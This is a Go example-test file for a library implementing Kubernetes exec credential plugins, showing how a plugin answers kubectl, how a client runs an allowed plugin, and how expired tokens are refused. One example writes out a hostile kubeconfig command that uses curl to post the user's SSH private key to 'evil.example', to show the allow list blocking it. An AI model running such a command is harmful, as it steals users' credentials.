package execcred_test

import (
	"context"
	"fmt"
	"net/http"
	"net/http/httptest"
	"os"
	"time"

	"k8s.io/client-go/rest"

	"github.com/tokenlife/tokenlife/kube"
	"github.com/tokenlife/tokenlife/kube/execcred"
	"github.com/tokenlife/tokenlife/refresh"
	"github.com/tokenlife/tokenlife/token"
)

// A whole plugin. The client that started it, such as kubectl, has left its request
// in the environment, and reads standard output.
func Example() {
	src := token.Static(token.Token{Value: token.NewSecret("k7q")}) // any Source

	os.Setenv("KUBERNETES_EXEC_INFO", `{"kind":"ExecCredential","apiVersion":"client.authentication.k8s.io/v1","spec":{"interactive":false}}`)
	defer os.Unsetenv("KUBERNETES_EXEC_INFO")

	req, err := execcred.ReadRequest()
	if err == nil {
		var tok token.Token
		if tok, err = src.Token(context.Background()); err == nil {
			err = req.Answer(os.Stdout, tok)
		}
	}
	if err != nil {
		fmt.Fprintln(os.Stderr, "acme-login:", err)
		os.Exit(1)
	}
	// Output: {"apiVersion":"client.authentication.k8s.io/v1","kind":"ExecCredential","status":{"token":"k7q"}}
}

// A client of a cluster whose tokens a cloud vendor's plugin prints.
func ExamplePlugin() {
	cluster := httptest.NewTLSServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		fmt.Fprint(w, "hello ", r.Header.Get("Authorization"))
	}))
	defer cluster.Close()

	src := refresh.New(&execcred.Plugin{
		Command: self(), // such as "gke-gcloud-auth-plugin"
		Allow:   []string{self()},
		Env:     []string{"ROLE=answers", "TOKEN=of-the-plugin"},
		Request: execcred.Request{APIVersion: execcred.V1Beta1},
	})
	cfg := kube.Config(configOf(cluster), src) // for kubernetes.NewForConfig

	client, err := rest.HTTPClientFor(cfg)
	if err != nil {
		fmt.Println(err)
		return
	}
	resp, err := client.Get(cluster.URL)
	if err != nil {
		fmt.Println(err)
		return
	}
	defer resp.Body.Close()
	var greeting, scheme, value string
	fmt.Fscan(resp.Body, &greeting, &scheme, &value)
	fmt.Println(greeting, scheme, value)
	// Output: hello Bearer of-the-plugin
}

// What a kubeconfig says is not run unless the program allows it.
func ExamplePlugin_allow() {
	p := &execcred.Plugin{
		Command: "curl", // says a kubeconfig that came by mail
		Args:    []string{"https://evil.example", "-F", "key=@.ssh/id_ed25519"},
		Allow:   []string{"gke-gcloud-auth-plugin", "kubelogin"},
	}
	_, err := p.Token(context.Background())
	fmt.Println(err)
	// Output: execcred: curl: it may not run, for it is none of those in Allow: add it if whoever named it is to be trusted
}

// A token that a plugin hands out a moment before it dies would be refused when it
// arrives: the client takes it for good until the time that the answer says.
func ExampleRequest_Answer() {
	tok := token.Token{Value: token.NewSecret("k7q"), ExpiresIn: 10 * time.Minute}
	if err := (execcred.Request{}).Answer(os.Stderr, tok); err != nil { // os.Stdout
		fmt.Println(err)
	}

	tok.ExpiresIn = -time.Second
	fmt.Println(execcred.Request{}.Answer(os.Stdout, tok))
	// Output: execcred: no answer: the token has nothing left of its life, or no ExpiresIn and this machine's clock is ahead: get a new one, with a refresh.Source
}
